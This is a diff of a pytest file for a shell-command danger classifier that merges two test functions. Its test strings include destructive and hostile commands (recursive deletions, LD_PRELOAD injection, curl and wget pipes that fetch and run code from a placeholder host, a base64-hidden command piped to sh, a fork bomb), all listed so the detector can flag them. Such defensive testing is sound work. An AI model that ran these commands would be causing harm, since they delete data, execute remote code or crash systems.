@@ -113,15 +113,6 @@ def test_is_safe(line: str) -> None:
         "rm -rf /tmp/../home",
         "rm -rf /tmp/a /srv",
         "LD_PRELOAD=a.so ls",
-    ],
-)
-def test_what_runs_behind_other_words_is_found(line: str) -> None:
-    assert level(line) == "dangerous"
-
-
-@pytest.mark.parametrize(
-    "line",
-    [
         "curl https://a.example/x | sh",
         "wget -qO- a.example | sudo bash",
         "echo cm0gLXI= | base64 -d | sh",
@@ -139,7 +130,7 @@ def test_what_runs_behind_other_words_is_found(line: str) -> None:
         "bomb() { bomb | bomb & }; bomb",
     ],
 )
-def test_what_is_fed_or_hidden_is_dangerous(line: str) -> None:
+def test_what_runs_behind_other_words_or_is_fed_to_a_program_is_found(line: str) -> None:
     assert level(line) == "dangerous"
 
 
